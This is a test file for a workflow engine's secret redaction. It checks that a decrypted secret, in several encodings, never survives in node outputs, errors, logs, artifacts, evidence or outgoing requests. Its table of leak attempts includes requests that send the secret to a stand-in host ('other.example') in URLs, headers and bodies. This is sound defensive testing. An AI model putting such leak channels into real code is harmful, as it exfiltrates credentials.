import { expect, test, vi } from "vitest";
import { encryptSecret } from "#db/secrets.ts";
import type { NodeModule } from "#nodes/node.ts";
import {
  type Context,
  callFlow,
  cancel,
  NodeError,
  output,
  retryAt,
  sqlInTransaction,
} from "#nodes/sdk/index.ts";
import { attemptOf } from "#worker/testing/attempt.ts";
import { encodings, hostileSecrets } from "#worker/testing/encodings.ts";
import { memoryArtifacts } from "#worker/testing/memory-artifacts.ts";
import { scripted } from "#worker/testing/nodes.ts";
import { attackDoor } from "./attempts.ts";

type Ctx = Context<Record<string, unknown>>;

/** The ways a node can let a text out: whatever it returns, throws, says or keeps. */
const exits: Readonly<Record<string, (text: string, ctx: Ctx) => unknown>> = {
  output: (text) => ({ said: [text] }),
  "a key of the output": (text) => ({ [text]: 1 }),
  "an output by a port": (text) => output({ text }, { port: "out" }),
  "bytes in the output": (text) => ({ bytes: Buffer.from(text) }),
  "an error's message": (text) => fail(new NodeError("RFX01", text)),
  "an error's hint": (text) => fail(new NodeError("RFX01", "no", { hint: text })),
  "an error's detail": (text) => fail(new NodeError("RFX01", "no", { detail: { deep: [text] } })),
  "a crash": (text) => fail(new TypeError(text)),
  "what is thrown": (text) => fail(text),
  "the reason of a retry": (text) => retryAt(new Date(0), text),
  "the reason of a cancel": (text) => cancel(text),
  "a child's input": (text) => callFlow({ flow: "f", input: { text } }),
  "a child's flow": (text) => callFlow({ flow: text, input: null }),
  "a log line": (text, ctx) => ctx.log("info", text),
  "a field of a log line": (text, ctx) => ctx.log("info", "x", { text }),
  "an artifact": async (text, ctx) => void (await ctx.artifacts.put(Buffer.from(text))),
  "an artifact's type": async (text, ctx) =>
    void (await ctx.artifacts.put(Buffer.from("x"), { contentType: text })),
  "an artifact's name": async (text, ctx) => void (await ctx.artifacts.put(Buffer.from("x"), { name: text })),
  "an artifact in pieces": async (text, ctx) =>
    void (await ctx.artifacts.write([...Buffer.from(text)].map((byte) => Uint8Array.of(byte)))),
  "a URL that is asked": (text, ctx) =>
    ctx.fetch(`https://other.example/${encodeURIComponent(text)}?q=${text}`),
  "a password in a URL": (text, ctx) =>
    ctx.fetch(`https://user:${encodeURIComponent(text)}@other.example/`).catch(() => undefined),
  "a header that is sent": (text, ctx) =>
    ctx.fetch(other, { headers: { "x-any": encodeURIComponent(text), authorization: "Bearer x" } }),
  "a body that is sent": (text, ctx) => ctx.fetch(other, { method: "POST", body: text }),
  "bytes that are sent": (text, ctx) => ctx.fetch(other, { method: "POST", body: Buffer.from(text) }),
  "a body that is cut": (text, ctx) =>
    ctx.fetch(other, {
      method: "POST",
      body: `${"x".repeat(4_096 - Math.ceil(text.length / 2))}${text}${"y".repeat(99_999)}`,
    }),
  "an answer": async (text, ctx) => {
    const answer = await ctx.fetch(`${other}echo`, { method: "POST", body: text });
    await answer.text();
  },
  "the connection of an answer that broke": (text, ctx) =>
    ctx.fetch(`${other}break`, { method: "POST", body: text }).catch(() => undefined),
  "a title of evidence": (text, ctx) => void ctx.evidence({ kind: "other", title: text }),
  "evidence that came later": (text, ctx) =>
    ctx.evidence({ kind: "other", title: "x", sent: text })({ answer: text, error: text }),
  "a statement that is told": (text, ctx) =>
    void ctx.evidence({ kind: "sql", statement: text, values: [text, { [text]: [text] }], database: text }),
  "a value of a statement": (text) => sqlInTransaction({ text: "select $1", values: [{ deep: [text] }] }),
  "rows of a statement": (text) => sqlInTransaction({ text: "select 1", values: [text] }),
};

const other = "https://other.example/";

/** Sends back what it is sent: in a header, in a cookie and in the body. */
const echo: typeof globalThis.fetch = async (input, init) => {
  const body = typeof init?.body === "string" ? init.body : "";
  if (typeof input === "string" && input.endsWith("break")) throw new TypeError(body);
  return new Response(body, {
    headers: { "x-echo": encodeURIComponent(body), "set-cookie": body.slice(0, 0) },
  });
};

function fail(thrown: unknown): never {
  throw thrown;
}

test("no exit of an attempt lets a secret out, in no encoding", async () => {
  vi.stubEnv("REFLUX_SECRET_KEY", Buffer.alloc(32, 3).toString("base64"));
  await attackDoor("leaks", async (attempt) => {
    for (const [kind, secret] of Object.entries(hostileSecrets).slice(1, 3))
      for (const [way, encode] of Object.entries(encodings))
        for (const [exit, leak] of Object.entries(exits))
          await attempt(`${kind} ${way} by ${exit}`, async () => {
            const written = encode(secret);

            const left = await attemptWith(secret, (ctx) => leak(written, ctx));

            expect(left).toContain("•••");
            expect(left).not.toContain(JSON.stringify(written).slice(1, -1));
            expect(left).not.toContain(secret);
          });
  });
  vi.unstubAllEnvs();
});

/** All that is left of an attempt of a node, as text. */
async function attemptWith(secret: string, work: (ctx: Ctx) => unknown): Promise<string> {
  const ciphertext = encryptSecret("key", secret);
  const node: NodeModule = scripted("test.leak", async (_input, ctx) => {
    await ctx.secret("key");
    return await work(ctx);
  });
  const left: unknown[] = [];
  const { outcome, sql, evidence } = await attemptOf(node, {
    ciphertext,
    fetch: echo,
    artifacts: memoryArtifacts(left),
    journal: {
      log: (...line) => void left.push(line),
      progress: () => undefined,
      close: async () => undefined,
    },
  });
  left.push(outcome, sql?.redact({ rows: sql.values }), evidence());
  return JSON.stringify(left);
}
